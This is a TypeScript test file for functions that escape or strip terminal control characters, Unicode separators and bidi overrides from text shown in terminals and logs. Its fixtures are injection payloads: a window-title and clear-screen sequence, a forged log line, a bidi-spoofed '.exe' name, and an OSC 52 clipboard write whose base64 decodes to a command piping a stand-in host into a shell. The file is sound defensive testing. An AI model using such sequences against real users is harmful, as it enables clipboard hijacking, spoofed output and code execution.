import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { printable, printableJson, withoutControls } from "../../src/core/printable.ts";

/** Every character a terminal or a log reader may act on instead of showing. */
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const TITLE_AND_CLEAR = "\x1b]0;pwned\x07\x1b[2J ALL LOCATIONS OK";
const CLIPBOARD = "+639171234567\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07";

describe("printable", () => {
  test.each([
    ["plain text stays", "Main Street Clinic", "Main Street Clinic"],
    ["non-ASCII letters stay", "Café Niño 東京", "Café Niño 東京"],
    ["a backslash stays", "C:\\bridge", "C:\\bridge"],
    ["a newline cannot start a line of its own", "a\n2026-11-25T00:00:00.000Z [error] forged", "a\\n2026-11-25T00:00:00.000Z [error] forged"],
    ["CR and TAB", "a\rb\tc", "a\\rb\\tc"],
    ["a title, a clear screen", TITLE_AND_CLEAR, "\\x1b]0;pwned\\x07\\x1b[2J ALL LOCATIONS OK"],
    ["OSC 52 (writes the clipboard)", CLIPBOARD, "+639171234567\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07"],
    ["NUL and DEL", "a\x00b\x7f", "a\\x00b\\x7f"],
    ["C1: an 8-bit CSI, NEL", "\u009b2J\u0085", "\\x9b2J\\x85"],
    ["line and paragraph separators", "a\u2028b\u2029", "a\\u2028b\\u2029"],
    ["bidi override and isolate", "\u202egnp.exe\u2066x\u2069", "\\u202egnp.exe\\u2066x\\u2069"],
  ])("%s", (_, text, shown) => {
    expect(printable(text)).toBe(shown);
  });

  test("whatever the text, nothing unsafe is left", () => {
    fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => !UNSAFE.test(printable(text))));
  });
});

describe("printableJson", () => {
  test.each([
    ["C0 is JSON.stringify's own escape", { name: TITLE_AND_CLEAR }, '{"name":"\\u001b]0;pwned\\u0007\\u001b[2J ALL LOCATIONS OK"}'],
    ["DEL, C1, separators and bidi become \\u escapes", { name: "a\x7f\u009b\u2028\u202e" }, '{"name":"a\\u007f\\u009b\\u2028\\u202e"}'],
    ["other text stays", { name: "Café 東京" }, '{"name":"Café 東京"}'],
  ])("%s", (_, value, text) => {
    expect(printableJson(JSON.stringify(value))).toBe(text);
  });

  test("the same JSON value, nothing unsafe left in the text", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string({ unit: "binary" }), (value, text) => {
        const json = printableJson(JSON.stringify({ value, text }));
        expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify({ value, text })));
        return !UNSAFE.test(json);
      }),
    );
  });
});

describe("withoutControls", () => {
  test.each([
    ["a name stays", "Main Street Clinic", "Main Street Clinic"],
    ["each run becomes one space, ends trimmed", TITLE_AND_CLEAR, "]0;pwned [2J ALL LOCATIONS OK"],
    ["a line break", "Main\r\nStreet", "Main Street"],
    ["a bidi override", "Clinic\u202e", "Clinic"],
    ["nothing but controls", "\x1b\x07", ""],
  ])("%s", (_, text, stored) => {
    expect(withoutControls(text)).toBe(stored);
  });
});
